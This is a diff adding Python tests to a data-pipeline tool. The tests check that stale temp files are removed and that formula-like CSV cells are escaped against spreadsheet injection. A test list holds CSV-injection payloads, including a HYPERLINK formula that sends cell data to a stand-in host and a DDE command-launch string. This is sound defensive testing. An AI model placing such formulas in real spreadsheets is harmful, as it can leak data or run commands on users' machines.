@@ -277,6 +277,36 @@ def test_replacing_a_run_removes_the_files_only_the_old_run_wrote(tmp_path):
     assert json.loads((out / "run.json").read_text())["files"] == ["both.csv"]
 
 
+def test_the_next_run_removes_the_staging_files_a_killed_run_left(tmp_path):
+    """Issue 36: a run killed while staging leaves ``.<name>.<8 random>.tmp`` files, which no
+    later run removed. The next run into that --out removes those of its folders that are
+    older than itself; every other file, a link and a folder so named are left alone."""
+    out = tmp_path / "r"
+    (out / "sub").mkdir(parents=True)
+    outside = tmp_path / "outside.txt"
+    outside.write_text("not the run's")
+    stale = [out / ".data.csv.k2j3h4g5.tmp", out / ".run.json.abc_1234.tmp",
+             out / "sub" / ".b.csv.zzzz9999.tmp", out / ".other.png.q1w2e3r4.tmp"]
+    kept = [out / ".data.csv.tmp", out / "data.csv.k2j3h4g5.tmp", out / "keep.tmp",
+            out / ".x.ABCDEFGH.tmp", out / ".notes.abcdefgh.tmp.bak", out / "notes.txt"]
+    for path in stale + kept:
+        path.write_text("left")
+    (out / ".link.csv.abcdefgh.tmp").symlink_to(outside)
+    (out / ".folder.abcdefgh.tmp").mkdir()
+    elsewhere = tmp_path / ".data.csv.k2j3h4g5.tmp"  # beside --out, not in it
+    elsewhere.write_text("left")
+    run = make_run(out, {"a": 1})
+    fresh = out / ".data.csv.newer123.tmp"  # made after the run began: not a killed run's
+    fresh.write_text("in use")
+    run.add_csv("data.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
+    run.add_csv("sub/b.csv", pd.DataFrame({"x_m": [1.0, 2.0]}))
+    run.commit()
+    assert not [p for p in stale if p.exists()]
+    assert all(p.is_file() for p in kept + [fresh, elsewhere])
+    assert (out / ".link.csv.abcdefgh.tmp").is_symlink() and outside.read_text() == "not the run's"
+    assert (out / ".folder.abcdefgh.tmp").is_dir()
+
+
 def test_replacing_a_run_never_deletes_the_file_it_reads(tmp_path, cli):
     """`--force` into the folder of the run that wrote the --data file: the old run's files
     are replaced, but not the input the new run reads (the new-user review lost impacts.csv)."""
@@ -393,6 +423,46 @@ def test_cells_that_need_quoting_or_mixed_types_go_to_pandas(tmp_path, column, f
     artifacts.write_csv(frame, tmp_path / "a.csv")
     frame.to_csv(tmp_path / "b.csv", index=False)
     assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"t")', "+cmd|' /C calc'!A0", "-2+3+cmd",
+            "@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize("extra", [[], ["a,b"]], ids=["fast", "pandas"])
+def test_text_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, extra):
+    """OWASP's CSV-injection advice (issue 36): a text cell beginning with = + - @ gets a
+    leading ' ; numbers (also a negative number written as text) and other text stay."""
+    n = len(FORMULAS) + 4 + len(extra)
+    text = [*FORMULAS, "plain", "-1.5", None, "a-b", *extra]
+    frame = pd.DataFrame({
+        "label": pd.Series(text, dtype=object),
+        "v": np.linspace(-2.0, 1.0, n),
+        "k": np.arange(-3, n - 3),
+        "kind": pd.Categorical(["=cat", "ok"] * (n // 2) + ["ok"] * (n % 2)),
+    })
+    artifacts.write_csv(frame, tmp_path / "t.csv")
+    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
+    assert back["label"].tolist() == ["'" + f for f in FORMULAS] + [
+        "plain", "-1.5", "", "a-b", *extra]
+    assert back["v"].tolist() == [str(v) for v in frame["v"]]  # -2.0 stays -2.0
+    assert back["k"].tolist()[:3] == ["-3", "-2", "-1"]
+    assert set(back["kind"]) == {"'=cat", "ok"}
+    assert frame["label"].iloc[0] == FORMULAS[0]  # the caller's frame is left as it was
+
+
+def test_a_trial_label_that_is_a_formula_is_text_in_the_extracted_tables(tmp_path, cli):
+    sim = tmp_path / "sim"
+    assert cli("simulate-recording", "--quiet", "--out", sim,
+               "--set", "duration_s=10").exit_code == 0
+    recording = pd.read_csv(sim / "recording.csv")
+    recording["trial"] = recording["trial"].map({1: FORMULAS[0], 2: "2"})
+    recording.to_csv(tmp_path / "rec.csv", index=False)
+    result = cli("extract", "--quiet", "--data", tmp_path / "rec.csv", "--out", tmp_path / "ex")
+    assert result.exit_code == 0, result.output
+    impacts = pd.read_csv(tmp_path / "ex" / "impacts.csv", dtype=str)
+    assert set(impacts["trial"]) == {"'" + FORMULAS[0], "2"}
+    assert not any(str(c).startswith(("=", "+", "@")) for c in impacts.to_numpy().ravel())
 
 
 def test_every_committed_csv_is_rewritten_byte_for_byte(tmp_path):
